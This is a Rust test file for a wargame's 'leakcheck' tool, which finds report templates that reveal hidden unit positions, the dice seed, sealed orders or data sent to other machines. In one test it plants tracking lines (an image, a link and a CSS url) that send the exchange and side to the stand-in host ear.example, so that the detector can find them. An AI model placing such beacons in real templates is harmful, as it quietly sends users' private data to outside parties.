//! Templates of a club that give away what their reader may not know, planted and found.

use std::path::Path;

use sealord::party::Party;
use sealord::rules::two_sided::party::{ALLIES, AXIS};
use sealord::view::Packet;
use serde_json::Value;

use super::support::{ADMIRALS_WAR, Desk, SCHIFFSKRIEG, SYSTEMS, System, copy};

/// A match of a few exchanges, with the orders of the Axis for the next one in.
fn desk() -> Desk {
    let desk = Desk::new();
    desk.begin("m", &["--missing", "staff"]);
    (0..6).for_each(|_| desk.exchange("m", 35));
    desk
}

/// Puts a template of the club's own into a folder.
fn put(desk: &Desk, name: &str, text: &str) {
    let path = desk.path(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// A template of the program, with a line of a club's own behind a line that holds some words.
fn with_line(name: &str, behind: &str, own: &str) -> (String, usize) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates").join(name);
    let text = std::fs::read_to_string(path).unwrap();
    let at = text.lines().position(|line| line.contains(behind)).unwrap_or_else(|| panic!("no {behind}")) + 1;
    let mut lines: Vec<&str> = text.lines().collect();
    lines.insert(at, own);
    (lines.join("\n") + "\n", at + 1)
}

/// What was found: file, line and words of each leak.
fn leaks(found: &Value) -> Vec<(String, u64, String)> {
    let text = |it: &Value| it.as_str().unwrap_or_default().to_owned();
    let all = found["leaks"].as_array().unwrap().iter();
    all.map(|it| (text(&it["file"]), it["line"].as_u64().unwrap_or_default(), text(&it["what"]))).collect()
}

/// The one leak of a folder of templates.
#[track_caller]
fn leak(desk: &Desk, club: &str, more: &[&str]) -> Value {
    let found = desk.json(1, &[&["leakcheck", "m", "--templates", club], more].concat());
    assert_eq!(found["ok"], false);
    assert_eq!(found["leaks"].as_array().unwrap().len(), 1, "{found:#}");
    found["leaks"][0].clone()
}

/// A unit of a party of which the other does not know where it is, with its place.
fn hidden(desk: &Desk, party: Party, from: Party) -> (String, String) {
    let [own, other] = [party, from].map(|party| desk.packet("m", party));
    let knows = |packet: &Packet, unit: &str| packet.view.to_string().contains(&format!("\"{unit}\""));
    let places = |packet: &Packet| {
        let view = &packet.view;
        [&view["ports"], &view["zones"]].map(|it| it.as_array().unwrap().clone()).concat()
    };
    let names: Vec<Value> = places(&own).iter().map(|place| place["name"].clone()).collect();
    for place in places(&own) {
        for unit in place["own"].as_array().unwrap() {
            let name = unit["name"].as_str().unwrap();
            if name.len() > 5 && !names.contains(&unit["name"]) && !knows(&other, name) {
                return (name.to_owned(), place["name"].as_str().unwrap().to_owned());
            }
        }
    }
    panic!("nothing is hidden");
}

/// The templates of the program give nothing away, in no game: a club that copies them begins clean.
fn the_templates_of_the_program_leak_nothing(system: &'static System, more: &[&str]) {
    let desk = Desk::of(system);
    copy(&Path::new(env!("CARGO_MANIFEST_DIR")).join("templates"), &desk.path("club"));
    // What mails as pages look like is no template of a letter.
    std::fs::remove_file(desk.path("club/mail/style.css")).unwrap();
    desk.begin("m", more);
    for _ in 0..2 {
        desk.run(&["resolve", "m", "--close"]);
    }
    let found = desk.json(0, &["leakcheck", "m", "--templates", "club"]);
    assert_eq!(found["ok"], true, "{found:#}");
    assert!(found["filled"].as_u64().unwrap() >= 8, "{found:#}");
    assert!(found["files"].as_array().unwrap().len() > 90, "{found:#}");
    assert_eq!(found["remarks"].as_array().unwrap().len(), 0, "{found:#}");
}

#[test]
fn the_templates_of_every_game_are_clean() {
    std::thread::scope(|threads| {
        for system in SYSTEMS {
            let companion = system.id == SCHIFFSKRIEG.id;
            let more: &[&str] = if companion { &[] } else { &["--missing", "staff"] };
            threads.spawn(move || the_templates_of_the_program_leak_nothing(system, more));
        }
    });
}

#[test]
fn a_hidden_unit_is_found_in_a_nested_include() {
    let desk = desk();
    let (unit, place) = hidden(&desk, AXIS, ALLIES);
    let (story, _) =
        with_line("common/text/story.txt", "WHAT HAPPENED", "{% include 'common/text/summary.txt' %}");
    put(&desk, "club/common/text/story.txt", &story);
    let line = format!("\n{{# {unit} #}}\nThe {unit}\n  {{{{ 'lies at' }}}} {place}.\n");
    put(&desk, "club/common/text/summary.txt", &line);
    let found = leak(&desk, "club", &[]);
    assert!(found["file"].as_str().unwrap().ends_with("summary.txt"), "{found:#}");
    assert_eq!(found["line"], 3, "{found:#}");
    assert!(found["words"].as_str().unwrap().contains(&unit), "{found:#}");
    assert_eq!(found["sides"], serde_json::json!(["allies"]), "{found:#}");
    assert_eq!(found["pages"], serde_json::json!(["the report as text"]), "{found:#}");
    // For people in a line, with the exchanges.
    let said = desk.expect(1, &["leakcheck", "m", "--templates", "club"]).out;
    assert!(
        said.contains("summary.txt:3: ") && said.contains("to the Allies, in the report as text"),
        "{said}"
    );
}

#[test]
fn a_secret_is_found_in_a_macro_and_one_that_nobody_was_shown() {
    let desk = desk();
    let seed = String::from_utf8(desk.read("m/secret/seed")).unwrap();
    let seed = seed.trim();
    let [first, second] = [&seed[..20], &seed[20..]];
    let own = format!("{{% macro over_it() %}}\n  {{{{ '{first}' ~ \"{second}\" }}}}\n{{% endmacro %}}");
    let (words, at) = with_line("common/words.txt", "endmacro", &own);
    put(&desk, "club/common/words.txt", &words);
    let call = "{% from 'common/words.txt' import over_it %}\n{{ over_it() }}";
    let (summary, _) = with_line("common/markdown/story.md", "What happened", call);
    put(&desk, "club/common/markdown/story.md", &summary);
    let found = leak(&desk, "club", &["--exchange", "2"]);
    assert_eq!(found["what"], "the seed of the dice");
    assert!(found["file"].as_str().unwrap().ends_with("words.txt"), "{found:#}");
    assert_eq!(found["line"], at + 1, "{found:#}");
    assert_eq!(found["sides"].as_array().unwrap().len(), 2, "{found:#}");
    assert_eq!(found["exchanges"], serde_json::json!([2]), "{found:#}");
    // In a branch that nobody came to, and in a letter.
    let waiting = format!("{{% if exchange == 99 %}}\n{seed}\n{{% endif %}}\n");
    put(&desk, "later/common/text/summary.txt", &waiting);
    let found = leak(&desk, "later", &["--exchange", "2"]);
    assert_eq!(
        (&found["line"], &found["sides"]),
        (&serde_json::json!(2), &serde_json::json!([])),
        "{found:#}"
    );
    if cfg!(feature = "mail") {
        put(&desk, "mail/mail/told.txt", &format!("Hello,\n\nkeep this: {seed}\n"));
        let found = leak(&desk, "mail", &["--exchange", "2"]);
        assert_eq!(found["line"], 3, "{found:#}");
    }
}

#[test]
fn orders_and_doctrine_of_the_other_side_are_found() {
    let desk = desk();
    desk.hand_in("m", 60);
    let Some(line) = sealed_orders(&desk) else { panic!("nobody is asked a thing") };
    put(
        &desk,
        "club/common/text/summary.txt",
        &format!("{{% set said = '{line}' %}}\n\n{{{{ said|upper }}}}\n"),
    );
    let found = desk.json(1, &["leakcheck", "m", "--templates", "club"]);
    assert!(leaks(&found).iter().any(|(_, _, what)| what.starts_with("orders of the")), "{found:#}");
}

/// The longest line of the orders that were handed in last, with nothing that a string could end at.
fn sealed_orders(desk: &Desk) -> Option<String> {
    let orders = String::from_utf8(desk.read("orders.yaml")).unwrap();
    let own = orders.lines().map(str::trim).filter(|line| !line.contains(['\'', '#', '\\']));
    own.filter(|line| !line.starts_with("match")).max_by_key(|line| line.len()).map(str::to_owned)
}

#[test]
fn what_leaves_for_another_machine_is_found() {
    let desk = desk();
    let own = "<img alt=\"\" src=\"https://ear.example/{{ exchange }}/{{ side }}.png\">";
    let (page, at) = with_line("common/html/report.html", "<header>", own);
    put(&desk, "club/common/html/report.html", &page);
    let found = leak(&desk, "club", &["--exchange", "2"]);
    assert_eq!(
        (found["line"].as_u64(), found["words"].as_str()),
        (Some(at as u64), Some("`https://ear.example/2/allies.png`")),
        "{found:#}"
    );
    // The same for everybody is no secret, and a link that says nothing is one like others.
    let own =
        "<img alt=\"\" src=\"https://club.example/logo.png\"><a href=\"https://club.example/\">club</a>";
    let (page, at) = with_line("common/html/report.html", "<header>", own);
    put(&desk, "club/common/html/report.html", &page);
    let found = desk.json(0, &["leakcheck", "m", "--templates", "club", "--exchange", "2"]);
    assert_eq!(found["remarks"][0]["line"], at as u64, "{found:#}");
    let told = desk.ok(&["leakcheck", "m", "--templates", "club", "--exchange", "2"]);
    assert!(told.contains("nothing leaks") && told.contains("note: "), "{told}");
    // A link and a style may carry something, too.
    let own = "<a href=\"https://ear.example/?of={{ party_name }}\">more</a>";
    let (page, at) = with_line("common/html/report.html", "<header>", own);
    put(&desk, "club/common/html/report.html", &page);
    assert_eq!(leak(&desk, "club", &["--exchange", "2"])["line"], at as u64);
    let own = ".{{ side }} { background: url(//ear.example/{{ side }}) }";
    let (style, at) = with_line("common/html/style.css", "}", own);
    put(&desk, "styled/common/html/style.css", &style);
    let found = leak(&desk, "styled", &["--exchange", "2"]);
    assert_eq!(found["line"], at as u64, "{found:#}");
}

#[test]
fn templates_that_fail_or_take_no_end_are_findings() {
    let desk = desk();
    let endless = "{% for a in range(9999) %}\n{% for b in range(9999) %}{{ a }}{% endfor %}{% endfor %}";
    put(&desk, "club/common/text/summary.txt", endless);
    put(&desk, "club/common/markdown/summary.md", "fine\n{{ no_such_name }}\n");
    let found = desk.json(1, &["leakcheck", "m", "--templates", "club", "--exchange", "2"]);
    let faults: Vec<&str> =
        found["faults"].as_array().unwrap().iter().map(|it| it["what"].as_str().unwrap()).collect();
    assert_eq!(faults.len(), 2, "{found:#}");
    assert!(
        faults.iter().any(|what| what.contains("summary.md:2: ") && what.contains("no_such_name")),
        "{faults:?}"
    );
    assert!(
        faults.iter().any(|what| what.contains("summary.txt:2: ") && what.contains("fuel")),
        "{faults:?}"
    );
    assert!(leaks(&found).is_empty());
    // So is one on which the program itself fails.
    put(&desk, "ours/common/text/summary.txt", "fine\n");
    let mut command = desk.command(&["leakcheck", "m", "--templates", "ours", "--exchange", "2"]);
    let ran = command.env("SEALORD_PANIC_IN", "report:").output().unwrap();
    let said = String::from_utf8(ran.stdout).unwrap();
    assert_eq!(ran.status.code(), Some(1), "{said}");
    assert!(
        said.contains("fails: ") && said.contains("the program fails on it: planted in report"),
        "{said}"
    );
}

#[test]
fn leakcheck_says_what_it_needs() {
    let desk = Desk::of(&ADMIRALS_WAR);
    desk.begin("m", &[]);
    assert!(desk.expect(2, &["leakcheck", "m"]).err.contains("give --templates the folder"));
    std::fs::create_dir(desk.path("empty")).unwrap();
    assert!(
        desk.expect(2, &["leakcheck", "m", "--templates", "empty"]).err.contains("has no template in it")
    );
    put(&desk, "club/common/text/summary.txt", "fine\n");
    let ran = desk.expect(1, &["leakcheck", "m", "--templates", "club", "--exchange", "7"]);
    assert!(ran.err.contains("nobody was shown anything of exchange 7"), "{}", ran.err);
    std::fs::remove_file(desk.path("m/secret/seed")).unwrap();
    assert!(desk.expect(1, &["leakcheck", "m", "--templates", "club"]).err.contains("secret/seed"));
}
